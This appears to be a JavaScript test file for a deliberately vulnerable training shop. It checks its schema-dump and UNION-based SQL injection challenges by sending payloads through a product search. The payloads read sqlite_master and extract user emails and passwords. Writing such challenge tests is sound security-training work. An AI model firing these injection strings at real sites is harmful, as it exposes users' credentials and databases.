import { findsProducts, search } from '../features/shelf.js'
import { proof } from '../proof.js'

export const dbSchemaChallenge = proof({
  attack: search("qwert')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--"),
  otherAttacks: [search("')) UNION SELECT 1,2,3,4,sql,6,7,8,9 FROM sqlite_master--")],
  honest: findsProducts,
})

export const unionSqlInjectionChallenge = proof({
  attack: search("qwert')) union select id,'2','3',email,password,'6','7','8','9' from users--"),
  otherAttacks: [
    search("qwert')) union select email,password,3,4,5,6,7,8,9 from users where deletedAt is null--"),
    search("qwert')) union select 1,email || ' ' || password,3,4,5,6,7,8,9 from users--"),
  ],
  honest: findsProducts,
})
